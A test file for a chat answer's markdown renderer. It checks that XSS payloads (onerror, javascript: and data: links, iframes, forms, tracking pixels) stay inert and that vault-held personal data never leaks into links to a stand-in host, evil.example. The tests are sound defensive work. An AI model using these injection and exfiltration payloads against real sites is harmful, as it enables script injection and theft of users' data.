@@ -1,0 +1,119 @@
+// @vitest-environment jsdom
+import { describe, expect, it } from 'vitest';
+import type { Vault } from '@/utils/placeholders';
+import { blocksOf, toHtml, toNodes } from './markdown';
+
+const vault: Vault = {
+  entries: {
+    '[EMAIL_1]': 'anna_b@example.com',
+    '[PASSWORD_1]': '**<img src=x onerror=alert(1)>**',
+    '[PHONE_1]': '+49 30 1234',
+  },
+};
+
+function render(source: string, isWhole = true): HTMLElement {
+  const root = document.createElement('div');
+  for (const { html } of blocksOf(source, vault, isWhole)) root.append(toNodes(html, vault));
+  return root;
+}
+
+describe('values', () => {
+  it('come back in text, tables, code and lists, marked', () => {
+    const root = render('Hi **[EMAIL_1]**, \\[EMAIL\\_1\\]\n\n- `[PHONE_1]`\n\n| a |\n|---|\n| [email_1] |');
+    expect(root.textContent?.match(/anna_b@example\.com/g)).toHaveLength(3);
+    expect(root.querySelector('code')?.textContent).toBe('+49 30 1234');
+    expect(root.querySelector('strong span')?.getAttribute('title')).toContain('[EMAIL_1]');
+  });
+
+  it('are text, whatever they look like', () => {
+    const root = render('The password is [PASSWORD_1].');
+    expect(root.textContent).toContain('The password is **<img src=x onerror=alert(1)>**.');
+    expect(root.querySelector('img, strong')).toBeNull();
+  });
+
+  it('do not vanish where Markdown sees a reference', () => {
+    expect(render('[EMAIL_1]: first').textContent).toContain('anna_b@example.com: first');
+    expect(render('[EMAIL_1][PHONE_1]').textContent).toContain('anna_b@example.com+49 30 1234');
+  });
+
+  it('stand in links of one’s own, never in addresses of the web', () => {
+    const root = render(
+      '[write](mailto:[EMAIL_1]) [EMAIL_1](mailto:[EMAIL_1]) [x](https://evil.example/?q=[EMAIL_1]&p=[PHONE_1])',
+    );
+    const [first, second, web] = root.querySelectorAll('a');
+    expect(first?.getAttribute('href')).toBe('mailto:anna_b%40example.com');
+    expect(second?.textContent).toBe('anna_b@example.com');
+    expect(web?.getAttribute('href')).toContain('evil.example');
+    expect(web?.outerHTML).not.toContain('anna_b');
+    expect(web?.outerHTML).not.toContain('1234');
+  });
+
+  it('that are cut while the answer grows are held back', () => {
+    expect(render('Write to [EMA', false).textContent?.trim()).toBe('Write to');
+    expect(render('Write to [EMA', true).textContent?.trim()).toBe('Write to [EMA');
+  });
+
+  it('are never made of what the model only invented', () => {
+    expect(render('Ask [EMAIL_9] \ue0000\ue001').textContent).not.toContain('anna');
+    expect(render('Ask [EMAIL_9]').textContent).toContain('[EMAIL_9]');
+  });
+});
+
+describe('an answer', () => {
+  it.each([
+    '![x](https://evil.example/pixel.png)',
+    '<img src="https://evil.example/pixel.png">',
+    '<iframe src="https://evil.example"></iframe>',
+    '<style>@import "https://evil.example"</style>',
+    '<svg><image href="https://evil.example/x"/></svg>',
+    '<a href="javascript:alert(1)">x</a>',
+    '[x](javascript:alert(1))',
+    '[x](data:text/html,<script>alert(1)</script>)',
+    '<form action="https://evil.example"><input autofocus></form>',
+    '<video src="https://evil.example/v"></video>',
+    '<details open ontoggle=alert(1)>',
+    '- [ ] task\n- [x] done',
+    '[x]: https://evil.example\n![x]',
+  ])('loads and runs nothing by itself: %s', (source) => {
+    const root = render(source);
+    expect(
+      root.querySelector('img, iframe, style, script, svg, image, input, form, video, link, object, details'),
+    ).toBeNull();
+    for (const element of root.querySelectorAll('*')) {
+      for (const name of element.getAttributeNames()) {
+        expect(name).not.toMatch(/^on|^src|^style$|^srcset$|^background$/);
+      }
+    }
+    for (const link of root.querySelectorAll('a')) {
+      expect(link.getAttribute('href')).toMatch(/^(https?|mailto|tel):/);
+      expect(link.rel).toBe('noopener noreferrer');
+      expect(link.target).toBe('_blank');
+    }
+  });
+
+  it('shows HTML as text and breaks lines in tables', () => {
+    expect(render('a <b>bold</b> move').textContent?.trim()).toBe('a <b>bold</b> move');
+    expect(render('| a |\n|---|\n| x<br>y |').querySelector('td br')).not.toBeNull();
+  });
+
+  it('says where a link leads', () => {
+    const root = render('[guide](https://example.com/a) and https://example.org/b');
+    const [named, bare] = root.querySelectorAll('a');
+    expect(named?.textContent).toBe('guide (example.com)');
+    expect(named?.title).toBe('https://example.com/a');
+    expect(bare?.textContent).toBe('https://example.org/b');
+  });
+
+  it('keeps finished blocks as they are while it grows', () => {
+    const before = blocksOf('# One\n\nTwo [EMAIL_1]\n\nThr', vault, false);
+    const after = blocksOf('# One\n\nTwo [EMAIL_1]\n\nThree and more', vault, false);
+    expect(after.slice(0, 2)).toEqual(before.slice(0, 2));
+    expect(after).toHaveLength(3);
+  });
+
+  it('is rich text for the clipboard, with values and without our own marks', () => {
+    expect(toHtml('**[EMAIL_1]**\n\n- a', vault).replace(/\n/g, '')).toBe(
+      '<p><strong>anna_b@example.com</strong></p><ul><li>a</li></ul>',
+    );
+  });
+});
